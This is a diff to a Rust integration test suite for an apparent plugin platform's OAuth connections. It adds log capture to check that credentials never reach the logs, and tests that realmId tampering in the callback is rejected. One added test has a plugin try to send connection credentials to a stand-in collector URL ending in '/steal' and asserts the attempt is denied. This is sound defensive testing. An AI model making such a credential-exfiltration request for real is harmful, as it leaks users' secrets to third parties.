@@ -27,6 +27,42 @@ const ALL_GRANTS: [&str; 6] = [
     "events",
 ];
 
+/// Every log line of this test process (from the first call on), capped: the tests check
+/// that no credential reaches a log line.
+static LOGS: std::sync::Mutex<Vec<u8>> = std::sync::Mutex::new(Vec::new());
+
+struct LogWriter;
+
+impl std::io::Write for LogWriter {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        let mut logs = LOGS.lock().unwrap_or_else(|e| e.into_inner());
+        if logs.len() < 64 << 20 {
+            logs.extend_from_slice(buf);
+        }
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+fn capture_logs() {
+    static INIT: std::sync::Once = std::sync::Once::new();
+    INIT.call_once(|| {
+        let _ = tracing_subscriber::fmt()
+            .with_env_filter(tracing_subscriber::EnvFilter::new(
+                "streamflow=debug,streamflow_runtime=debug,tower_http=debug",
+            ))
+            .with_writer(|| LogWriter)
+            .with_ansi(false)
+            .try_init();
+    });
+}
+
+fn logs() -> String {
+    String::from_utf8_lossy(&LOGS.lock().unwrap_or_else(|e| e.into_inner())).into_owned()
+}
+
 struct World {
     srv: TestServer,
     fake: Fake,
@@ -56,6 +92,7 @@ async fn world_with(
     backend: Backend,
     tweak: impl FnOnce(&mut streamflow::config::Config),
 ) -> Option<World> {
+    capture_logs();
     let fake = Fake::start().await;
     let port = fake.port;
     let srv = TestServer::start_with(backend, |c| {
@@ -155,6 +192,17 @@ impl World {
     /// Runs the authorization code flow as the admin's browser would; returns the
     /// callback's answer.
     async fn connect(&self, token: &str, realm: &str) -> (u16, String, String) {
+        self.connect_as(token, realm, realm).await
+    }
+
+    /// [`World::connect`] where the callback's `realmId` is changed on its way back (the
+    /// query of a redirect is not signed).
+    async fn connect_as(
+        &self,
+        token: &str,
+        realm: &str,
+        callback_realm: &str,
+    ) -> (u16, String, String) {
         let (status, body) = self
             .srv
             .post(
@@ -183,7 +231,10 @@ impl World {
         let sent = client.get(consent).send().await.unwrap();
         assert_eq!(sent.status().as_u16(), 303, "{:?}", sent.text().await);
         let location = sent.headers()["location"].to_str().unwrap().to_string();
-        let callback = location.replace(PUBLIC, &self.srv.base);
+        let callback = location.replace(PUBLIC, &self.srv.base).replace(
+            &format!("realmId={realm}"),
+            &format!("realmId={callback_realm}"),
+        );
         let (status, page) = self.browser(&callback).await;
         (status, page, callback)
     }
@@ -331,6 +382,23 @@ async fn oauth_connections_refresh_expire_and_disconnect(backend: Backend) {
         echo["user_agent"],
         "StreamFlow-Plugin/integration-probe@0.1.0"
     );
+    // The credentials go only to the connection's own API host, not to any host the
+    // manifest lists.
+    let elsewhere = w
+        .action(
+            &owner,
+            "fetch",
+            json!({"url": "https://collector.probe.test/steal", "connection": "code"}),
+        )
+        .await;
+    assert_eq!(elsewhere["error"], "denied", "{elsewhere}");
+    assert!(
+        elsewhere["message"]
+            .as_str()
+            .unwrap()
+            .contains("not a host of connection code"),
+        "{elsewhere}"
+    );
     let refreshes = || w.fake.state.refreshes.load(Ordering::SeqCst);
     assert_eq!(refreshes(), 0);
 
@@ -416,6 +484,12 @@ async fn oauth_connections_refresh_expire_and_disconnect(backend: Backend) {
         .action(&owner, "fetch", json!({"url": "/x", "connection": "code"}))
         .await;
     assert_eq!(gone["error"], "denied", "{gone}");
+    let logged = logs();
+    assert!(
+        logged.contains("connection authorized"),
+        "logs are captured"
+    );
+    w.assert_no_credentials(&logged);
 }
 
 #[tokio::test]
@@ -585,6 +659,8 @@ async fn client_credentials_and_api_keys_stay_in_the_kernel() {
     )
     .await;
     assert_eq!(leaked, 0);
+    w.assert_no_credentials(&logs());
+    assert!(!logs().contains("not-the-secret-42"));
 }
 
 #[tokio::test]
@@ -826,6 +902,24 @@ async fn webhooks_are_verified_routed_and_delivered_once() {
     let b = w.tenant("realm-b", &ALL_GRANTS, json!({})).await;
     assert_eq!(w.connect(&a, "111").await.0, 200);
     assert_eq!(w.connect(&b, "222").await.0, 200);
+    // Routing is by realmId, so nobody else may hold one: not by connecting the same
+    // account again, nor by changing the realmId in the callback's (unsigned) query.
+    let c = w.tenant("realm-c", &ALL_GRANTS, json!({})).await;
+    let (status, page, _) = w.connect(&c, "111").await;
+    assert_eq!(status, 400, "{page}");
+    assert!(
+        page.contains("already connected for another business"),
+        "{page}"
+    );
+    let (status, page, _) = w.connect_as(&c, "333", "222").await;
+    assert_eq!(status, 400, "{page}");
+    assert!(page.contains("did not confirm"), "{page}");
+    let list = w.connections(&c).await;
+    assert_eq!(
+        connection(&list, "code")["status"],
+        "not_connected",
+        "{list}"
+    );
 
     // App-wide: one delivery for every account of the app, split by realmId.
     let body = serde_json::to_vec(&json!({"eventNotifications": [
